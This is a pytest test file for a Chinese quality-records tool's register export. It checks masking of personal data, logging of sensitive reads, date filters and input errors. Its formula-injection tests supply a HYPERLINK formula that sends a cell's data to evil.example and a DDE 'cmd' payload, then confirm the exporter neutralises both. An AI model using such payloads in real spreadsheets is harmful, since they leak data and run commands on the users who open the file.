"""The register 台账: real workspaces, the XLSX read back with openpyxl and the CSV with csv,
sensitive columns masked or logged, filters on the record's date, and careless input."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from tests.conftest import as_json, example


def new_complaint(run, *sets) -> str:
    return as_json(run("new", "complaint", "--data", example("complaint"),
                       *[f"--set={s}" for s in sets], "--json"))["number"]


@pytest.fixture
def complaints(run):
    """Three complaints made on 2026-11-23: one closed, one on hold, one received in October."""
    closed = new_complaint(run, "received_date=2026-11-02")
    as_json(run("do", closed, "close_unfounded", "--set", "disposition=unfounded", "--comment",
                "客户安装不当", "--json", user="zhaomin"))
    held = new_complaint(run, "market=foreign", "customer=苏州明辉电子", "customer_contact=",
                         "customer_phone=")
    as_json(run("hold", "add", held, "--reason", "客户诉讼", "--json", user="wangwen"))
    october = new_complaint(run, "received_date=2026-10-30", "product=电源模块")
    return closed, held, october


def read_xlsx(path):
    from openpyxl import load_workbook

    book = load_workbook(path)
    sheet = book["台账 Register"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return book, sheet, [dict(zip(rows[0], row)) for row in rows[1:]]


def sensitive_events(ws):
    return [e for e in ws.catalog.events() if e["action"] == "register.sensitive_read"]


def test_the_xlsx_register_has_a_row_per_record_and_masks_personal_information(
        run, ws, tmp_path, complaints):
    closed, held, october = complaints
    out = tmp_path / "台账.xlsx"
    result = run("register", "complaint", "--out", out, user="zhangwei")
    assert result.exit_code == 0, result.output
    assert "3 records" in result.output and "masked" in result.output
    book, sheet, rows = read_xlsx(out)
    assert [r["记录编号 Number"] for r in rows] == [closed, held, october]
    first = rows[0]
    assert first["建档日期 Created"] == dt.datetime(2026, 11, 23)
    assert first["受理日期 Date received"] == dt.datetime(2026, 11, 2)
    assert first["客户名称 Customer"] == "华东电力设备有限公司"
    assert first["产品名称 Product"] == "控制板组件"
    assert first["状态 Status"] == "已结案 Closed"
    assert first["期限 Due date"] == dt.datetime(2026, 11, 15)  # domestic: 13 days
    assert first["关闭日期 Closed on"] == dt.datetime(2026, 11, 23)
    assert first["保存至 Retained until"] == dt.datetime(2029, 11, 23)
    assert first["冻结 Hold"] == "否 No"
    assert first["处理方式 Disposition"] == "投诉不成立 Complaint unfounded"
    assert first["市场 Market"] == "国内 Domestic" and first["料号 Part no."] == "PCB-4451-A"
    assert first["数量 Quantity"] == 500 and first["不良数量 Defective quantity"] == 12
    assert first["联系人 Contact person"] == "***" and first["联系电话 Phone"] == "***"
    second = rows[1]
    assert second["期限 Due date"] == dt.datetime(2026, 12, 3)  # foreign: 17 days
    assert (second["冻结 Hold"], second["状态 Status"]) == ("是 Yes", "已登记 Registered")
    assert second["关闭日期 Closed on"] is None and second["保存至 Retained until"] is None
    assert second["联系人 Contact person"] is None  # nothing to hide where nothing is kept
    assert rows[2]["产品名称 Product"] == "电源模块"
    # long text and tables stay on the form
    assert "异常描述 Description" not in first and "原因分析 Cause analysis" not in first
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    widths = {sheet.cell(1, i + 1).value: sheet.column_dimensions[letter].width
              for i, letter in enumerate("ABCD")}
    assert widths["客户名称 Customer"] >= 22  # ten CJK characters are twenty cells wide
    assert book["说明 About"]["B7"].value == "张伟 (zhangwei)"
    assert sensitive_events(ws) == []  # nothing sensitive was shown, so nothing to log


def test_a_privacy_user_sees_personal_information_and_the_export_is_logged_once(
        run, ws, tmp_path, complaints):
    closed, held, october = complaints
    out = tmp_path / "register.xlsx"
    as_json(run("register", "complaint", "--out", out, "--json", user="lina"))
    rows = read_xlsx(out)[2]
    assert [r["联系电话 Phone"] for r in rows] == ["138 0000 1234", None, "138 0000 1234"]
    assert rows[0]["联系人 Contact person"] == "王磊"
    events = sensitive_events(ws)
    assert len(events) == 1
    assert events[0]["actor"] == "lina"
    assert events[0]["detail"]["records"] == [closed, october]  # the held one has none
    assert events[0]["detail"]["fields"] == ["customer_contact", "customer_phone"]
    assert events[0]["detail"]["out"] == str(out)


def test_the_csv_register_is_utf8_with_bom_and_matches_the_json_rows(run, tmp_path,
                                                                   complaints):
    out = tmp_path / "register.csv"
    printed = as_json(run("register", "complaint", "--out", out, "--json", user="zhangwei"))
    content = out.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == [c["heading"] for c in printed["columns"]]
    assert rows[0][:3] == ["记录编号 Number", "建档日期 Created", "受理日期 Date received"]
    expected = [["" if row[c["id"]] is None else str(row[c["id"]])
                 for c in printed["columns"]] for row in printed["rows"]]
    assert rows[1:] == expected
    assert printed["rows"][0]["received_date"] == "2026-11-02"
    assert printed["rows"][0]["customer_phone"] == "***"
    assert printed["count"] == 3 and printed["masked"] is True


def test_from_and_to_filter_on_the_records_date(run, tmp_path, complaints):
    closed, held, october = complaints
    out = tmp_path / "r.csv"

    def numbers(*options):
        return [r["number"] for r in as_json(run("register", "complaint", "--out", out,
                                                 *options, "--json"))["rows"]]

    assert numbers("--from", "2026-11-01") == [closed, held]
    assert numbers("--to", "2026-11-02") == [closed, october]
    assert numbers("--from", "2026-11-02", "--to", "2026-11-02") == [closed]
    assert numbers("--from", "2027-01-01") == []
    assert len(list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))) == 1  # headings


def test_a_form_without_a_date_field_is_filed_by_the_day_records_were_made(
        run, tmp_path, monkeypatch):
    monkeypatch.setenv("QREC_TODAY", "2026-10-05")
    early = as_json(run("new", "contract_review", "--data", example("contract_review"),
                        "--json"))["number"]
    monkeypatch.setenv("QREC_TODAY", "2026-11-23")
    late = as_json(run("new", "contract_review", "--data", example("contract_review"),
                       "--json"))["number"]
    out = tmp_path / "cr.xlsx"
    printed = as_json(run("register", "contract_review", "--out", out, "--from", "2026-11-01",
                          "--json"))
    assert [r["number"] for r in printed["rows"]] == [late]
    ids = [c["id"] for c in printed["columns"]]
    # no deadline in this workflow, no date field; title fields lead the form's own fields
    assert "due_date" not in ids and "received_date" not in ids
    assert ids[:9] == ["number", "created_on", "customer", "product", "status", "closed_on",
                       "voided_on", "retention_until", "hold"]
    assert ids[9] == "contract_no" and "specification" not in ids
    assert "department_reviews" not in ids
    rows = read_xlsx(out)[2]
    assert rows[0]["金额 Amount"] == 103800 and rows[0]["建档日期 Created"].month == 11
    assert early not in [r["记录编号 Number"] for r in rows]


def test_an_existing_file_is_replaced_whole(run, tmp_path, complaints):
    out = tmp_path / "r.csv"
    out.write_text("old content that is longer than nothing\n" * 100)
    as_json(run("register", "complaint", "--out", out, "--json"))
    assert out.read_text("utf-8-sig").startswith("记录编号 Number")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "ws") == ["r.csv"]


@pytest.mark.parametrize("args, message", [
    (["complain", "--out", "{d}/r.xlsx"], "no form 'complain' (did you mean 'complaint'?)"),
    (["complaint", "--out", "{d}/r.xlsx", "--from", "2026-13-01"],
     "--from: '2026-13-01' is not a date (YYYY-MM-DD)"),
    (["complaint", "--out", "{d}/r.xlsx", "--to", "23/11/2026"],
     "--to: '23/11/2026' is not a date (YYYY-MM-DD)"),
    (["complaint", "--out", "{d}/r.xlsx", "--from", "2026-12-01", "--to", "2026-11-01"],
     "--from: 2026-12-01 is after the end of the period 2026-11-01"),
    (["complaint", "--out", "{d}/r.pdf"], "r.pdf: the file name must end in .xlsx or .csv"),
    (["complaint", "--out", "{d}/register"], "must end in .xlsx or .csv"),
    (["complaint", "--out", "{d}/missing/r.xlsx"], "missing does not exist"),
    (["complaint", "--out", "{d}/folder.xlsx"], "folder.xlsx: is a folder"),
])
def test_careless_input_is_refused_in_one_line_and_leaves_no_file(run, tmp_path, args,
                                                                   message):
    out_dir = tmp_path / "out"
    (out_dir / "folder.xlsx").mkdir(parents=True)
    result = run("register", *[a.replace("{d}", str(out_dir)) for a in args])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
    assert message in result.stderr, result.stderr
    assert [p.name for p in out_dir.iterdir()] == ["folder.xlsx"]


# -- formulas and long numbers: what a spreadsheet would do with the values ----------------

FORMULAS = {"customer": '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
            "product": "+1+cmd|' /C calc'!A0", "part_no": "-2+3", "order_no": "@SUM(1,2)"}


def test_text_that_looks_like_a_formula_stays_text(run, tmp_path):
    number = new_complaint(run, *[f"{fid}={value}" for fid, value in FORMULAS.items()])
    xlsx, csv_out = tmp_path / "r.xlsx", tmp_path / "r.csv"
    as_json(run("register", "complaint", "--out", xlsx, "--json"))
    as_json(run("register", "complaint", "--out", csv_out, "--json"))

    from openpyxl import load_workbook

    sheet = load_workbook(xlsx)["台账 Register"]
    headings = [cell.value for cell in sheet[1]]
    row = {heading: cell for heading, cell in zip(headings, sheet[2])}
    assert row["记录编号 Number"].value == number
    for heading, value in (("客户名称 Customer", FORMULAS["customer"]),
                           ("产品名称 Product", FORMULAS["product"]),
                           ("料号 Part no.", FORMULAS["part_no"]),
                           ("订单编号 Order no.", FORMULAS["order_no"])):
        cell = row[heading]
        # a string cell holding the text as typed, marked as typed text ('=...) for Excel
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", value, True), heading
    assert row["数量 Quantity"].data_type == "n"  # numbers stay numbers
    assert row["市场 Market"].quotePrefix is False  # only what needs it is marked

    rows = list(csv.DictReader(io.StringIO(csv_out.read_text("utf-8-sig"))))
    assert rows[0]["客户名称 Customer"] == "'" + FORMULAS["customer"]
    assert rows[0]["产品名称 Product"] == "'" + FORMULAS["product"]
    assert rows[0]["料号 Part no."] == "'-2+3" and rows[0]["订单编号 Order no."] == "'@SUM(1,2)"
    assert rows[0]["数量 Quantity"] == "500" and rows[0]["记录编号 Number"] == number


def test_csv_cells_starting_with_tab_or_carriage_return_are_neutralised():
    from qrecords.api.register import csv_text

    assert [csv_text(v) for v in ("\tx", "\rx", "=1", "+1", "-1", "@x", "x=1", "", "'x")] == \
        ["'\tx", "'\rx", "'=1", "'+1", "'-1", "'@x", "x=1", "", "'x"]


def test_whole_numbers_keep_every_digit_in_the_xlsx(run, tmp_path):
    big = "123456789012345678"           # 18 digits, what the catalog keeps
    above_2_53 = str(2 ** 53 + 1)        # 9007199254740993: a double would make it ...992
    fifteen = "123456789012345"          # what a spreadsheet's number cell holds exactly
    for quantity, defective in ((big, above_2_53), (fifteen, "-0")):
        new_complaint(run, f"quantity={quantity}", f"defective_quantity={defective}",
                      "disposition_amount=1234567890123.45")
    out = tmp_path / "r.xlsx"
    as_json(run("register", "complaint", "--out", out, "--json"))
    from openpyxl import load_workbook

    sheet = load_workbook(out)["台账 Register"]
    headings = [cell.value for cell in sheet[1]]
    first, second = ({h: c for h, c in zip(headings, row)} for row in sheet.iter_rows(min_row=2))
    assert (first["数量 Quantity"].data_type, first["数量 Quantity"].value) == ("s", big)
    assert (first["不良数量 Defective quantity"].data_type,
            first["不良数量 Defective quantity"].value) == ("s", above_2_53)
    assert (second["数量 Quantity"].data_type, second["数量 Quantity"].value) == \
        ("n", int(fifteen))
    assert second["不良数量 Defective quantity"].value == 0
    # 15 significant digits fit a number cell; the amount keeps its two places
    assert first["金额 Amount"].data_type == "n"
    assert str(first["金额 Amount"].value) == "1234567890123.45"
